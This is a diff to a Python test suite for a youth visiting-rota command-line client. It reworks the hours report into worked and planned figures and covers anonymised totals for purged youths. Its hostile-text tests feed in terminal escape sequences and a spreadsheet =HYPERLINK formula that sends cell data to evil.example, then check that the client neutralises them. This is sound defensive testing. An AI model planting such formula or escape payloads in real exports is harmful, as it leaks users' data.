@@ -528,19 +528,47 @@ class ClientTest(ClientCase):
         self.ok_rota("assign", "dst", "ola", "--force")
         lines = self.ok_rota("hours", "--month", "2027-01").stdout
         rows = [l.split() for l in lines.splitlines()]
-        self.assertEqual(rows[0], ["YOUTH", "NAME", "SHIFTS", "HOURS"])
-        self.assertIn(["ida", "Ida", "Nilsen", "1", "2:00"], rows)
-        self.assertIn(["ola", "Ola", "Hansen", "1", "3:00"], rows)
-        self.assertEqual(rows[-1], ["total", "5:00"])
+        self.assertEqual(rows[0], ["YOUTH", "NAME", "SHIFTS", "WORKED",
+                                   "PLANNED"])
+        # January 2027 is still ahead: planned, nothing worked yet.
+        self.assertIn(["ida", "Ida", "Nilsen", "1", "0:00", "2:00"], rows)
+        self.assertIn(["ola", "Ola", "Hansen", "1", "0:00", "3:00"], rows)
+        self.assertEqual(rows[-1], ["total", "2", "0:00", "5:00"])
         c = list(csv.reader(io.StringIO(
             self.ok_rota("hours", "--month", "2027-03", "--csv").stdout)))
-        self.assertEqual(c[0], ["youth", "name", "shifts", "minutes",
-                                "hours"])
-        self.assertEqual(c[1:], [["ola", "Ola Hansen", "1", "120", "2.00"]])
+        self.assertEqual(c[0], ["youth", "name", "worked_shifts",
+                                "worked_minutes", "worked_hours",
+                                "planned_shifts", "planned_minutes",
+                                "planned_hours"])
+        self.assertEqual(c[1:], [["ola", "Ola Hansen", "0", "0", "0.00",
+                                  "1", "120", "2.00"]])
         j = json.loads(self.ok_rota("hours", "--month", "2027-01",
                                     "--json").stdout)
-        self.assertEqual({x["youth"]: x["minutes"] for x in j},
+        self.assertEqual({x["youth"]: x["planned"]["minutes"]
+                          for x in j["youths"]},
                          {"ida": 120, "ola": 180})
+
+    def test_hours_worked_and_purged(self):
+        # A visit that is over is worked; a purged youth's worked hours
+        # stay as an unnamed total for the home.
+        self.ok_rota("slots", "add", "--id", "past", "--home", "lia",
+                     "--start", "2026-11-07T11:00", "--end",
+                     "2026-11-07T13:30", "--force")
+        self.ok_rota("assign", "past", "ola", "--force")
+        self.ok_rota("assign", "past", "ida", "--force")
+        rows = [l.split() for l in self.ok_rota(
+            "hours", "--month", "2026-11").stdout.splitlines()]
+        self.assertIn(["ola", "Ola", "Hansen", "1", "2:30", "0:00"], rows)
+        self.ok_rota("youths", "rm", "ida", "--purge")
+        out = self.ok_rota("hours", "--month", "2026-11").stdout
+        rows = [l.split() for l in out.splitlines()]
+        self.assertNotIn("Ida", out)
+        self.assertIn(["(purged)", "home", "lia", "1", "2:30", "0:00"], rows)
+        self.assertEqual(rows[-1], ["total", "2", "5:00", "0:00"])
+        c = list(csv.reader(io.StringIO(self.ok_rota(
+            "hours", "--month", "2026-11", "--csv").stdout)))
+        self.assertIn(["(purged)", "lia", "1", "150", "2.50", "0", "0",
+                       "0.00"], c)
 
     # ---- settings and the school calendar ----
 
@@ -1168,28 +1196,29 @@ class HostileTextTest(ClientCase):
         self.assertEqual(r.stderr.count("\n"), 1, r.stderr)
         self.assertIn("\\x1b]0;pwned\\x07", r.stderr)
 
-    def test_server_time_zone_that_is_a_path_never_opens_it(self):
-        fifo = os.path.join(self.home, "zone.fifo")
-        os.mkfifo(fifo)
-        tz = "../" * 12 + fifo.lstrip("/")
+    def test_hostile_hours_answer_is_shown_not_obeyed(self):
         self.fake.routes.update({
-            "/api/v1/settings": (200, "application/json",
-                                 {"timezone": tz}),
-            "/api/v1/assignments": (200, "application/json",
-                                    {"assignments": [{"id": "a1",
-                                                      "slot": "s1",
-                                                      "youth": "y1"}]}),
-            "/api/v1/slots": (200, "application/json",
-                              {"slots": [{"id": "s1",
-                                          "start": "2027-01-04T16:00",
-                                          "end": "2027-01-04T18:00"}]}),
-            "/api/v1/youths": (200, "application/json",
-                               {"youths": [{"id": "y1", "name": "Y"}]}),
+            "/api/v1/hours": (200, "application/json", {
+                "month": "2027-01", "as_of": "2026-12-07T10:00",
+                "youths": [{"youth": "y1", "name": EVIL,
+                            "worked": {"shifts": 1, "minutes": 60},
+                            "planned": {"shifts": 0, "minutes": 0}}],
+                "anonymous": [{"home": "h1\n\x1b[2Jfake  row",
+                               "shifts": 1, "minutes": 30}],
+                "totals": {"worked": {"shifts": 1, "minutes": 60},
+                           "planned": {"shifts": 0, "minutes": 0},
+                           "anonymous": {"shifts": 1, "minutes": 30}}}),
         })
         rc, out, err = self.run_bounded(["hours", "--month", "2027-01"],
                                         env=self.fake_env())
+        self.assertEqual(rc, 0, err)
+        self.assertSafe(out)
+        self.assertEqual(len(out.splitlines()), 4, out)
+        self.fake.routes["/api/v1/hours"] = (200, "application/json",
+                                             {"month": "2027-01"})
+        rc, out, err = self.run_bounded(["hours", "--month", "2027-01"],
+                                        env=self.fake_env())
         self.assertEqual(rc, EXIT_SERVER, err)
-        self.assertIn("cannot compute its length in time zone", err)
 
     def test_hours_csv_cells_are_never_formulas(self):
         names = {"ida": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
@@ -1199,8 +1228,7 @@ class HostileTextTest(ClientCase):
         self.ok_rota("assign", "s3", "ola")
         r = self.ok_rota("hours", "--month", "2027-01", "--csv")
         rows = list(csv.reader(io.StringIO(r.stdout)))
-        self.assertEqual(rows[0], ["youth", "name", "shifts", "minutes",
-                                   "hours"])
+        self.assertEqual(rows[0][:3], ["youth", "name", "worked_shifts"])
         got = {row[0]: row[1] for row in rows[1:]}
         self.assertEqual(got, {k: "'" + v for k, v in names.items()})
         for line in r.stdout.splitlines()[1:]:
@@ -1211,7 +1239,7 @@ class HostileTextTest(ClientCase):
                                                  "2027-01").stdout)
         j = json.loads(self.ok_rota("hours", "--month", "2027-01",
                                     "--json").stdout)
-        self.assertEqual({x["youth"]: x["name"] for x in j}, names)
+        self.assertEqual({x["youth"]: x["name"] for x in j["youths"]}, names)
 
 
 class TerminalTest(ClientCase):
